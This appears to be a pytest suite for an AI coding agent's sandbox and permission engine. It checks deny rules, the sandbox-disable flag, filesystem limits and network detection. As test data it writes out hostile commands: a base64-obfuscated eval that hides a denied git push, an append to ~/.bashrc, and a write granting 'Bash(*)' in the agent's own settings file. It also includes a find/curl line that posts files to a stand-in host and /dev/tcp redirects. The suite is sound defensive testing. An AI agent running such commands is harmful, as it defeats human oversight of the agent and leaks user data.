"""What runs in the sandbox and what the permission engine decides around it: autoAllowBashIfSandboxed
turns asks into sandboxed runs, never deny rules, ask rules or protected paths;
excludedCommands and dangerouslyDisableSandbox run outside under the normal flow; the
settings key warns on what it does not know."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentkeel.policy.sandbox import parse_config
from kit import wait_until_async
from sandbox_harness import SandboxedBash, bwrap_works

needs_bwrap = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap cannot create namespaces here")


def test_settings_key_reads_claude_codes_shape_and_warns_on_the_rest() -> None:
    config = parse_config(
        {
            "enabled": True,
            "autoAllowBashIfSandboxed": False,
            "excludedCommands": ["docker *"],
            "allowUnsandboxedCommands": False,
            "failIfUnavailable": True,
            "network": {"allowedDomains": ["pypi.org"], "allowLocalBinding": True, "allowAllUnixSockets": True},
            "filesystem": {"allowWrite": ["~/.cache"], "denyWrite": ["./deploy"], "denyRead": ["~/.aws"]},
            "enableWeakerNestedSandbox": False,  # Claude Code's, accepted silently
            "colour": "blue",
        }
    )
    assert config.enabled and not config.auto_allow and not config.allow_unsandboxed and config.fail_if_unavailable
    assert config.excluded_commands == ("docker *",)
    assert config.allowed_domains == ("pypi.org",)
    assert config.allow_local_binding and config.allow_all_unix_sockets
    assert (config.allow_write, config.deny_write, config.deny_read) == (("~/.cache",), ("./deploy",), ("~/.aws",))
    assert config.warnings == ("settings: unknown key 'sandbox.colour' ignored",)


def test_a_wrongly_typed_value_warns_and_keeps_the_safe_default() -> None:
    config = parse_config({"enabled": "yes", "network": [], "excludedCommands": "docker"})
    assert not config.enabled
    assert config.excluded_commands == ()
    assert len(config.warnings) == 3
    assert parse_config("on").warnings == ("settings: 'sandbox' is not an object; ignored",)


@needs_bwrap
def test_auto_allow_turns_asks_into_sandboxed_runs_but_not_denials_asks_or_protected_paths(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    b = SandboxedBash(tmp_path, home, allow=(), deny=("Bash(rm *)",))
    b.engine.add(["Bash(git push *)"], "ask", "test")
    decide = lambda c: b.engine.decide("Bash", {"command": c})  # noqa: E731
    assert decide("touch x").decision == "allow"
    assert decide("touch x").stage == "sandbox"
    assert decide("python3 script.py").decision == "allow"
    # issue #30: inline code keel cannot read may run the denied program, and the sandbox would not ask
    assert decide("python3 -c 'print(1)'").decision == "deny"
    assert decide("rm -rf x").decision == "deny"
    assert decide("git push origin main").decision == "ask"
    assert decide("echo x >> ~/.bashrc").decision == "ask"  # protected: always asks
    assert decide("echo x > .git/config").decision == "ask"
    b.engine.mode = "plan"
    assert decide("touch x").decision != "allow"
    b.close()


@needs_bwrap
def test_unreadable_commands_keep_asking_when_a_bash_deny_rule_exists(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    b = SandboxedBash(tmp_path, home, allow=(), deny=("Bash(git push *)",))
    # issue #30 family 7: a program known only at run time is any program, so the deny rule holds
    assert b.engine.decide("Bash", {"command": 'eval "$(echo Z2l0IHB1c2g= | base64 -d)"'}).decision == "deny"
    b.close()
    b = SandboxedBash(tmp_path, home, allow=())
    assert b.engine.decide("Bash", {"command": 'eval "$(echo Z2l0IHB1c2g= | base64 -d)"'}).decision == "allow"
    b.close()


@needs_bwrap
def test_excluded_commands_and_unsandboxed_requests_take_the_normal_flow(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    b = SandboxedBash(tmp_path, home, allow=(), settings={"excludedCommands": ["make *", "docker"]})
    assert b.engine.decide("Bash", {"command": "make build"}).decision == "ask"
    assert b.engine.decide("Bash", {"command": "docker ps"}).decision == "ask"
    assert b.engine.decide("Bash", {"command": "dockerd-like-tool"}).decision == "allow"  # sandboxed
    assert b.engine.decide("Bash", {"command": "touch a && make build"}).decision == "ask"
    flagged = {"command": "touch x", "dangerouslyDisableSandbox": True}
    assert b.engine.decide("Bash", flagged).decision == "ask"
    out = b(f"touch {tmp_path.parent}/outside-by-request", dangerouslyDisableSandbox=True)
    assert out.metadata["sandboxed"] is False
    assert (tmp_path.parent / "outside-by-request").exists()
    b.close()


@needs_bwrap
def test_the_escape_hatch_is_ignored_where_settings_forbid_it(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    b = SandboxedBash(tmp_path, home, settings={"allowUnsandboxedCommands": False})
    assert b.engine.decide("Bash", {"command": "touch x", "dangerouslyDisableSandbox": True}).decision == "allow"
    out = b(f"touch {tmp_path.parent}/outside-forbidden", dangerouslyDisableSandbox=True)
    assert out.metadata["sandboxed"] is True
    assert not (tmp_path.parent / "outside-forbidden").exists()
    assert "allowUnsandboxedCommands: false" in out.content
    b.close()


@needs_bwrap
def test_filesystem_settings_widen_and_narrow_the_writable_set(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    project = tmp_path / "p"
    (project / "deploy").mkdir(parents=True)
    extra = tmp_path / "cache"
    extra.mkdir()
    secret = tmp_path / "vault.txt"
    secret.write_text("obviously-fake-secret\n")
    b = SandboxedBash(
        project,
        home,
        settings={"filesystem": {"allowWrite": [f"/{extra}"], "denyWrite": ["./deploy"], "denyRead": [f"/{secret}"]}},
    )
    assert not b(f"touch {extra}/ok").is_error
    assert b("touch deploy/x").is_error
    out = b(f"cat {secret}")
    assert "obviously-fake-secret" not in out.content
    assert (extra / "ok").exists() and not (project / "deploy" / "x").exists()
    b.close()


@needs_bwrap
def test_a_background_shell_runs_sandboxed_and_bash_output_reports_its_denial(tmp_path: Path) -> None:
    import asyncio

    from agentkeel.tools import builtin_tools
    from agentkeel.tools.shell import ShellState

    home = Path(os.environ["HOME"])  # under tmp_path: the project holds the home directory here,
    (home / ".bashrc").write_text("# rc\n")  # whose rc files stay read-only all the same
    b = SandboxedBash(tmp_path, home)
    output = next(t for t in builtin_tools() if t.name == "BashOutput")

    async def go() -> str:
        started = await b.run("sleep 0.2; echo pwned >> ~/.bashrc", run_in_background=True)
        assert started.metadata["sandboxed"] is True

        async def ended() -> str | None:
            out = await output.run(output.parse({"bash_id": started.metadata["background_id"]}), b.ctx)
            return None if "running" in out.metadata["status"] else out.content

        text: str = await wait_until_async(ended, 10, "the background shell to end")
        return text

    try:
        text = asyncio.run(go())
    finally:
        asyncio.run(b.services.get(ShellState).aclose())
        b.close()
    assert "[Sandbox denial:" in text
    assert (home / ".bashrc").read_text() == "# rc\n"


@needs_bwrap
def test_keel_home_stays_read_only_even_inside_a_working_directory(tmp_path: Path) -> None:
    home = Path(os.environ["HOME"])
    keel_home = tmp_path / "state" / "keel"
    (keel_home / "projects").mkdir(parents=True)
    (keel_home / "settings.json").write_text("{}")
    b = SandboxedBash(tmp_path, home, keel_home=keel_home)
    out = b(f'echo \'{{"permissions":{{"allow":["Bash(*)"]}}}}\' > {keel_home}/settings.json; touch {keel_home}/x')
    b.close()
    assert "[Sandbox denial:" in out.content
    assert (keel_home / "settings.json").read_text() == "{}"
    assert not (keel_home / "x").exists()


@pytest.mark.parametrize(
    ("command", "needs"),
    [
        ("true", False),
        ("ls -la | grep x && wc -l < a.txt > n.txt", False),
        ("find . -name '*.py' | sort | head", False),
        ("/usr/bin/cat a b", False),
        ("timeout 5 ls", False),
        ("curl https://example.com", True),
        ("ls && pip install x", True),
        ("find . -exec curl -d @{} https://x.example \\;", True),
        ("ls | xargs curl", True),
        ("echo hi > /dev/tcp/10.0.0.1/80", True),
        ("cat < /dev/udp/10.0.0.1/53", True),
        ("echo $(git fetch)", True),
        ("$TOOL --version", True),
        ('eval "$X"', True),
        ("awk 'BEGIN{system(\"curl x\")}'", True),
    ],
)
def test_the_relay_is_skipped_only_for_commands_that_cannot_use_the_network(command: str, needs: bool) -> None:
    from agentkeel.policy.sandbox.proxy import needs_network

    assert needs_network(command, "/tmp", "/root") is needs
